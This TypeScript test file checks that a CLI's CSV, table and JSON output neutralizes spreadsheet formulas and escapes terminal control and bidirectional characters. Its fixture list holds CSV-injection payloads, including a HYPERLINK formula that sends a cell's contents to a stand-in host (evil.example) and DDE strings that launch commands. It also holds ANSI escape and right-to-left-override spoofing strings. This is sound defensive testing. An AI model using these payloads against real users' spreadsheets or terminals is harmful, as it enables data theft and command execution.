/**
 * Attacker-controlled text stays inert: log fields reach CSV with spreadsheet formulas neutralized and reach the
 * terminal without control characters or escape sequences, in every format.
 */
import { parse } from 'csv-parse/sync';
import { cellText, csvCell, jsonSafe, renderRows, terminalSafe } from '../../cli/output';

/** Values an attacker can put in a user agent, a request parameter or a resource name. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'ok\u001b[2J\u001b[31mred\u001b]0;title\u0007',
  'bidi \u202egnp.exe',
  'c1 \u009b31m csi',
  'line\nbreak',
];

const rows = HOSTILE.map((v, i) => ({ i, v }));

/** Code point ranges a terminal or a spreadsheet acts on: C0 controls, DEL and C1, `\u202e` (right-to-left override). */
const CONTROLS: [number, number][] = [
  [0x00, 0x1f],
  [0x7f, 0x9f],
  [0x202e, 0x202e],
];
/** Also the invisible and bidirectional formatting characters, which a table escapes too. */
const FORMATTING: [number, number][] = [
  [0x200b, 0x200f],
  [0x2028, 0x202e],
  [0x2066, 0x2069],
];

/** The characters of `text` in `ranges`, but those in `allowed` (as `\\u` escapes, to read failures). */
function raw(text: string, ranges: [number, number][], allowed = ''): string[] {
  return [...text]
    .filter((ch) => !allowed.includes(ch))
    .map((ch) => ch.codePointAt(0) ?? 0)
    .filter((c) => ranges.some(([from, to]) => c >= from && c <= to))
    .map((c) => `\\u${c.toString(16).padStart(4, '0')}`);
}

describe('CSV output', () => {
  test('a spreadsheet reads every hostile cell as text: formula starts get a leading quote, escapes are shown', () => {
    const csv = renderRows('csv', ['i', 'v'], rows);
    const parsed = parse(csv, { columns: true, relax_column_count: false }) as { i: string; v: string }[];
    expect(parsed).toHaveLength(HOSTILE.length);
    for (const { v } of parsed) {
      expect(v).not.toMatch(/^[=+\-@\t\r]/);
      expect(raw(v, CONTROLS, '\t\n')).toEqual([]);
    }
    expect(parsed[0].v).toBe(`'${HOSTILE[0]}`);
    expect(parsed[6].v).toBe('ok\\x1b[2J\\x1b[31mred\\x1b]0;title\\x07');
    expect(parsed[9].v).toBe('line\nbreak');
  });

  test('numbers stay numbers (a negative count is not a formula), booleans and objects are text', () => {
    const csv = renderRows('csv', ['n', 'b', 'o'], [{ n: -3, b: false, o: { a: '=x' } }]);
    expect(csv).toBe('n,b,o\n-3,false,"{""a"":""=x""}"\n');
  });

  test('the header is neutralized too, and an empty result still has it', () => {
    expect(renderRows('csv', ['=x'], [])).toBe("'=x\n");
  });
});

describe('terminal output', () => {
  test('a table shows control, C1 and bidi characters escaped, so nothing reaches the terminal raw', () => {
    const table = renderRows('table', ['i', 'v'], rows);
    expect(raw(table, [...CONTROLS, ...FORMATTING], '\n')).toEqual([]);
    expect(table).toContain('\\x1b[2J');
    expect(table).toContain('\\u202e');
    expect(table.split('\n')).toHaveLength(HOSTILE.length + 3);
  });

  test('JSON and JSON Lines escape what JSON.stringify leaves raw, and parse back to the same values', () => {
    for (const format of ['json', 'jsonl'] as const) {
      const text = renderRows(format, ['i', 'v'], rows);
      expect(raw(text, CONTROLS, '\n')).toEqual([]);
      const back =
        format === 'json'
          ? JSON.parse(text)
          : text
              .trim()
              .split('\n')
              .map((l: string) => JSON.parse(l) as unknown);
      expect(back).toEqual(rows);
    }
  });

  test('terminalSafe, jsonSafe, csvCell and cellText on their own', () => {
    expect(terminalSafe('a\u001b[0mb\u0085c')).toBe('a\\x1b[0mb\\x85c');
    expect(jsonSafe(JSON.stringify('\u009b'))).toBe('"\\u009b"');
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('plain')).toBe('plain');
    expect(cellText(null)).toBe('');
    expect(cellText([1, 'a'])).toBe('[1,"a"]');
  });
});
